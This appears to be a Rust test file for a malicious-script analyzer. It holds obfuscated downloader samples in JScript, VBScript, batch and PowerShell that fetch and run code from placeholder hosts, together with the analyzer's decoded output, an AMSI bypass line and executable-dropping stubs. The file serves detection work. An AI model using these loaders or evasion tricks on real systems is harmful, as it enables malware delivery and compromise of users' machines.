//! Scripts as a whole: facts, features, texts and the files that stand in them.

use expect_test::{Expect, expect};

use crate::shown::opened;

fn check(name: &str, bytes: &[u8], expected: &Expect) {
    expected.assert_eq(&opened(name, bytes));
}

#[test]
fn downloader_in_javascript() {
    check("invoice.js", b"var a = 'WScr' + 'ipt.Sh' + 'ell';\nvar s = new ActiveXObject(a);\nvar x = new ActiveXObject('MSXML2.XMLHTTP');\nx.open('GET', 'http://a.example/' + 'b.exe', false);\ns.Run('cmd /c ' + String.fromCharCode(99,97,108,99));\n", &expect![[r#"
        js
        language: javascript
        suspicious:
        -
            kind: runs
            word: WScript.Shell
        -
            kind: runs
            word: cmd /c
        -
            kind: downloads
            word: MSXML2.XMLHTTP
        -
            kind: decodes
            word: fromCharCode
        prog-ids:
        - WScript.Shell
        - MSXML2.XMLHTTP
        decoded:
        -
            kind: concatenation
            text: http://a.example/b.exe
        -
            kind: character-codes
            text: cmd /c calc
        obfuscation:
        - hidden-words
        * script script:0
        * downloads script:0
        * runs-command script:0
        * obfuscated 
        Code script:0: var a = \'WScr\' + \'ipt.Sh\' + \'ell\';\nvar s = new ActiveXObject(a);\nvar x = new ActiveXObject(\'MSXML2.XMLHTTP\');\nx.open(\'GET\', \'http://a.example/\' + \'b.exe\', false);\ns.Run(\'cmd /c \' + String.fromCharCode(99,97,108,99));\n
        Code script:0: var a = \"WScript.Shell\";\nvar s = new ActiveXObject(\"WScript.Shell\");\nvar x = new ActiveXObject(\'MSXML2.XMLHTTP\');\nx.open(\'GET\', \"http://a.example/b.exe\", false);\ns.Run(\"cmd /c calc\");\n
    "#]]);
}

#[test]
fn encoded_command_in_javascript() {
    check("run.js", b"new ActiveXObject(\"WScript.Shell\").Run(\"powershell -w hidden -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwBwAC4AcABzADEAJwApAA==\", 0);", &expect![[r#"
        js
        language: javascript
        suspicious:
        -
            kind: runs
            word: WScript.Shell
        -
            kind: runs
            word: iex
        -
            kind: runs
            word: powershell
        -
            kind: downloads
            word: DownloadString
        -
            kind: downloads
            word: Net.WebClient
        -
            kind: evasion
            word: -nop
        -
            kind: evasion
            word: -w hidden
        -
            kind: decodes
            word: -enc
        prog-ids:
        - WScript.Shell
        decoded:
        -
            kind: base64
            text: IEX (New-Object Net.WebClient).DownloadString(\'http://a.example/p.ps1\')
        obfuscation:
        - hidden-words
        * script script:0
        * downloads script:0
        * runs-command script:0
        * obfuscated 
        Code script:0: new ActiveXObject(\"WScript.Shell\").Run(\"powershell -w hidden -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwBwAC4AcABzADEAJwApAA==\", 0);
        Code script:0: IEX (New-Object Net.WebClient).DownloadString(\'http://a.example/p.ps1\')
    "#]]);
}

#[test]
fn program_in_base64() {
    check("drop.js", b"var st = new ActiveXObject(\"ADODB.Stream\"); var d = \"TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAAAAFBFAABMAQAAAAAAAAAAAAAAAAAAYAACAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\";\nst.SaveToFile(\"C:\\\\Users\\\\Public\\\\up.exe\", 2);", &expect![[r#"
        js
        > object:0 C:\\Users\\Public\\up.exe 188 bytes MZ\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0 size=188 method=base64
        language: javascript
        suspicious:
        -
            kind: writes
            word: ADODB.Stream
        -
            kind: writes
            word: SaveToFile
        prog-ids:
        - ADODB.Stream
        * script script:0
        * embedded-file object:0
        * embedded-program object:0
        Code script:0: var st = new ActiveXObject(\"ADODB.Stream\"); var d = \"TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAAAAFBFAABMAQAAAAAAAAAAAAAAAAAAYAACAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
    "#]]);
}

#[test]
fn encoded_jscript() {
    check("a.jse", b"#@~^WwAAAA==-mD~kP{Px\x7fh,)mDk-+or8%\x7fmYvE\x7fUmDb2ORUt\x7fVsJbI@#@&dR\";xvJhd4Yl~4DY2)J&N/nc+Xl:aV\x7f&lctOlr#I@#@&UBwAAA==^#~@", &expect![[r#"
        js
        language: javascript
        suspicious:
        -
            kind: runs
            word: WScript.Shell
        -
            kind: runs
            word: mshta
        prog-ids:
        - WScript.Shell
        decoded:
        -
            kind: encoded-script
            text: var s = new ActiveXObject(\"WScript.Shell\");\r\ns.Run(\"mshta http://jse.example/a.hta\");\r\n
        obfuscation:
        - encoded-script
        - hidden-words
        * script script:0
        * runs-command script:0
        * obfuscated 
        Code script:0: #@~^WwAAAA==-mD~kP{Px\u{7f}h,)mDk-+or8%\u{7f}mYvE\u{7f}UmDb2ORUt\u{7f}VsJbI@#@&dR\";xvJhd4Yl~4DY2)J&N/nc+Xl:aV\u{7f}&lctOlr#I@#@&UBwAAA==^#~@
        Code script:0: var s = new ActiveXObject(\"WScript.Shell\");\r\ns.Run(\"mshta http://jse.example/a.hta\");\r\n
    "#]]);
}

#[test]
fn character_codes_in_vbscript() {
    check("a.vbs", b"Set o = CreateObject(\"WScr\" & \"ipt.Shell\")\r\n' comment\r\no.Run Chr(109) & Chr(115) & Chr(104) & Chr(116) & Chr(97) & \" \" & StrReverse(\"ath.x/elpmaxe.sbv//:ptth\"), 0\r\nExecute \"Msg\" & \"Box 1\"\r\n", &expect![[r#"
        vbs
        language: vbscript
        suspicious:
        -
            kind: runs
            word: WScript.Shell
        -
            kind: runs
            word: mshta
        -
            kind: decodes
            word: Execute
        -
            kind: decodes
            word: StrReverse
        prog-ids:
        - WScript.Shell
        decoded:
        -
            kind: character-codes
            text: mshta http://vbs.example/x.hta
        obfuscation:
        - hidden-words
        * script script:0
        * runs-command script:0
        * obfuscated 
        Code script:0: Set o = CreateObject(\"WScr\" & \"ipt.Shell\")\r\n\' comment\r\no.Run Chr(109) & Chr(115) & Chr(104) & Chr(116) & Chr(97) & \" \" & StrReverse(\"ath.x/elpmaxe.sbv//:ptth\"), 0\r\nExecute \"Msg\" & \"Box 1\"\r\n
        Code script:0: Set o = CreateObject(\"WScript.Shell\")\r\n\' comment\r\no.Run \"mshta http://vbs.example/x.hta\", 0\r\nExecute \"MsgBox 1\"\r\n
    "#]]);
}

#[test]
fn certificate_in_batch() {
    check("a.bat", b"@echo off\r\necho -----BEGIN CERTIFICATE----->a.txt\r\necho TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA>>a.txt\r\necho AAAAAAAAAAAAAAAAQAAAAFBFAABMAQAAAAAAAAAAAAAAAAAAYAACAQAAAAAAAAAA>>a.txt\r\necho AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA>>a.txt\r\necho AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=>>a.txt\r\necho -----END CERTIFICATE----->>a.txt\r\ncertutil -decode a.txt C:\\ProgramData\\a.exe\r\nstart /b C:\\ProgramData\\a.exe\r\n", &expect![[r#"
        bat
        > object:0 C:\\ProgramData\\a.exe 188 bytes MZ\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0 size=188 method=base64
        language: batch
        suspicious:
        -
            kind: runs
            word: start /b
        -
            kind: decodes
            word: -decode
        -
            kind: decodes
            word: certutil -decode
        * script script:0
        * runs-command script:0
        * embedded-file object:0
        * embedded-program object:0
        Code script:0: @echo off\r\necho -----BEGIN CERTIFICATE----->a.txt\r\necho TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA>>a.txt\r\necho AAAAAAAAAAAAAAAAQAAAAFBFAABMAQAAAAAAAAAAAAAAAAAAYAACAQAAAAAAAAAA>>a.txt\r\necho AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA>>a.txt\r\necho AAAAAAAAAA
    "#]]);
}

#[test]
fn sliced_batch() {
    check("b.cmd", b"@echo off\r\nset x=wershlpo htvixmcd/:.Wab\r\n%x:~6,2%%x:~0,5%%x:~1,1%%x:~5,1%%x:~5,1% -w h^id^den -c i^wr http://bat.example/a\r\n", &expect![[r#"
        bat
        language: batch
        suspicious:
        -
            kind: runs
            word: powershell
        -
            kind: downloads
            word: iwr
        -
            kind: evasion
            word: -w h
        -
            kind: evasion
            word: -w hidden
        decoded:
        -
            kind: replacement
            text: echo off\nset x=wershlpo htvixmcd/:.Wab\npowershell -w hidden -c iwr http://bat.example/a\n
        obfuscation:
        - hidden-words
        * script script:0
        * downloads script:0
        * runs-command script:0
        * obfuscated 
        Code script:0: @echo off\r\nset x=wershlpo htvixmcd/:.Wab\r\n%x:~6,2%%x:~0,5%%x:~1,1%%x:~5,1%%x:~5,1% -w h^id^den -c i^wr http://bat.example/a\r\n
        Code script:0: echo off\nset x=wershlpo htvixmcd/:.Wab\npowershell -w hidden -c iwr http://bat.example/a\n
    "#]]);
}

#[test]
fn compressed_powershell() {
    check("a.ps1", b"$s=[IO.MemoryStream][Convert]::FromBase64String('H4sIAAAAAAACA/PMK8vPTtUNT00KSi0sTS0uUcgoKSmw0tdPr9JLrUjMLchJ1a9Q0PUvLXHLzElVUEnNK7MqSc0tiKkASqcCALWP0co+AAAA')\nI`E`X (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()", &expect![[r#"
        ps1
        language: powershell
        suspicious:
        -
            kind: runs
            word: iex
        -
            kind: downloads
            word: Invoke-WebRequest
        -
            kind: writes
            word: -OutFile
        -
            kind: decodes
            word: FromBase64String
        -
            kind: decodes
            word: GzipStream
        decoded:
        -
            kind: compression
            text: Invoke-WebRequest http://gz.example/x -OutFile $env:temp\\x.exe
        obfuscation:
        - hidden-words
        * script script:0
        * downloads script:0
        * runs-command script:0
        * obfuscated 
        Code script:0: $s=[IO.MemoryStream][Convert]::FromBase64String(\'H4sIAAAAAAACA/PMK8vPTtUNT00KSi0sTS0uUcgoKSmw0tdPr9JLrUjMLchJ1a9Q0PUvLXHLzElVUEnNK7MqSc0tiKkASqcCALWP0co+AAAA\')\nI`E`X (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
        Code script:0: Invoke-WebRequest http://gz.example/x -OutFile $env:temp\\x.exe
    "#]]);
}

#[test]
fn powershell_words() {
    check("b.ps1", b"powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden\n$c = New-Object ('Net.'+'WebClient'); $c.\"Down`loadFile\"('http://ps.example/a.exe', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\"\n[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", &expect![[r#"
        ps1
        language: powershell
        suspicious:
        -
            kind: runs
            word: Start-Process
        -
            kind: runs
            word: powershell
        -
            kind: downloads
            word: DownloadFile
        -
            kind: downloads
            word: Net.WebClient
        -
            kind: evasion
            word: AmsiUtils
        -
            kind: evasion
            word: ExecutionPolicy Bypass
        -
            kind: evasion
            word: WindowStyle Hidden
        obfuscation:
        - hidden-words
        * script script:0
        * downloads script:0
        * runs-command script:0
        * obfuscated 
        Code script:0: powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden\n$c = New-Object (\'Net.\'+\'WebClient\'); $c.\"Down`loadFile\"(\'http://ps.example/a.exe\', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\"\n[Ref].Assembly.GetType(\'System.Management.Automation.AmsiUtils\')
        Code script:0: powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden\n$c = New-Object (\"Net.WebClient\"); $c.\"Down`loadFile\"(\'http://ps.example/a.exe\', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\"\n[Ref].Assembly.GetType(\'System.Management.Automation.AmsiUtils\')
    "#]]);
}

#[test]
fn jobs_of_a_windows_script() {
    check("a.wsf", b"<?xml version='1.0'?><job id=\"j\"><script language=\"VBScript\" src=\"http://wsf.example/a.vbs\"/><object id='sh' progid='WScript.Shell'/><script language=\"JScript\"><![CDATA[sh.Run('mshta ' + 'http://wsf2.example/');]]></script></job>", &expect![[r#"
        wsf
        language: javascript
        suspicious:
        -
            kind: runs
            word: WScript.Shell
        -
            kind: runs
            word: mshta
        prog-ids:
        - WScript.Shell
        decoded:
        -
            kind: concatenation
            text: mshta http://wsf2.example/
        * downloads script:0
        * script script:0
        * runs-command script:0
        Link script:0: http://wsf.example/a.vbs
        Code script:0: sh.Run(\'mshta \' + \'http://wsf2.example/\');
        Code script:0: sh.Run(\"mshta http://wsf2.example/\");
    "#]]);
}

#[test]
fn nested_layers() {
    check("n.js", b"eval(atob(\"ZXZhbCh1bmVzY2FwZSgiJTc3JTY5JTZlJTY0JTZmJTc3JTJlJTZjJTZmJTYzJTYxJTc0JTY5JTZmJTZlJTNkJTIyaHR0cDovL2RlZXAuZXhhbXBsZS8lMjIiKSk7\"));", &expect![[r#"
        js
        language: javascript
        suspicious:
        -
            kind: decodes
            word: atob
        -
            kind: decodes
            word: eval
        -
            kind: decodes
            word: unescape
        decoded:
        -
            kind: base64
            text: eval(unescape(\"%77%69%6e%64%6f%77%2e%6c%6f%63%61%74%69%6f%6e%3d%22http://deep.example/%22\"));
        -
            kind: percent
            text: window.location=\"http://deep.example/\"
        obfuscation:
        - decoded-and-run
        * script script:0
        * obfuscated 
        Code script:0: eval(atob(\"ZXZhbCh1bmVzY2FwZSgiJTc3JTY5JTZlJTY0JTZmJTc3JTJlJTZjJTZmJTYzJTYxJTc0JTY5JTZmJTZlJTNkJTIyaHR0cDovL2RlZXAuZXhhbXBsZS8lMjIiKSk7\"));
        Code script:0: eval(\"eval(unescape(\"%77%69%6e%64%6f%77%2e%6c%6f%63%61%74%69%6f%6e%3d%22http://deep.example/%22\"));\");
        Code script:0: eval(unescape(\"%77%69%6e%64%6f%77%2e%6c%6f%63%61%74%69%6f%6e%3d%22http://deep.example/%22\"));
        Code script:0: eval(\"window.location=\"http://deep.example/\"\");
    "#]]);
}

#[test]
fn ordinary_script() {
    check("util.js", b"/* helpers */\nfunction add(a, b) {\n  return a + b;\n}\nvar label = \"Total: \" + add(1, 2) + \" yen\";\nmodule.exports = { add: add };\n", &expect![[r#"
        js
        language: javascript
        * script script:0
        Code script:0: /* helpers */\nfunction add(a, b) {\n  return a + b;\n}\nvar label = \"Total: \" + add(1, 2) + \" yen\";\nmodule.exports = { add: add };\n
    "#]]);
}

#[test]
fn ordinary_batch() {
    check("build.bat", b"@echo off\r\nrem builds\r\nset OUT=dist\r\nif not exist %OUT% mkdir %OUT%\r\ncopy src\\*.js %OUT%\r\necho done\r\n", &expect![[r#"
        bat
        language: batch
        * script script:0
        Code script:0: @echo off\r\nrem builds\r\nset OUT=dist\r\nif not exist %OUT% mkdir %OUT%\r\ncopy src\\*.js %OUT%\r\necho done\r\n
    "#]]);
}

#[test]
fn hexadecimal_program() {
    check("h.vbs", b"d = \"4d5a0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000040000000504500004c0100000000000000000000000000006000020100000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000\"\r\nSet f = CreateObject(\"Scripting.FileSystemObject\")\r\nSet t = f.CreateTextFile(\"x.exe\")\r\n", &expect![[r#"
        vbs
        > object:0 x.exe 188 bytes MZ\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0 size=188 method=hexadecimal
        language: vbscript
        suspicious:
        -
            kind: writes
            word: CreateTextFile
        -
            kind: writes
            word: Scripting.FileSystemObject
        prog-ids:
        - Scripting.FileSystemObject
        * script script:0
        * embedded-file object:0
        * embedded-program object:0
        Code script:0: d = \"4d5a0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000040000000504500004c0100000000000000000000000000006000020100000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
    "#]]);
}

#[test]
fn bytes_in_powershell() {
    check("by.ps1", b"[byte[]]$b = 0x4d,0x5a,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x40,0x00,0x00,0x00,0x50,0x45,0x00,0x00,0x4c,0x01,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x60,0x00,0x02,0x01,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00\n[IO.File]::WriteAllBytes(\"C:\\a.exe\", $b)\n", &expect![[r#"
        ps1
        > object:0 C:\\a.exe 188 bytes MZ\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0 size=188 method=character-codes
        language: powershell
        suspicious:
        -
            kind: writes
            word: IO.File
        -
            kind: writes
            word: WriteAllBytes
        * script script:0
        * embedded-file object:0
        * embedded-program object:0
        Code script:0: [byte[]]$b = 0x4d,0x5a,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x
    "#]]);
}
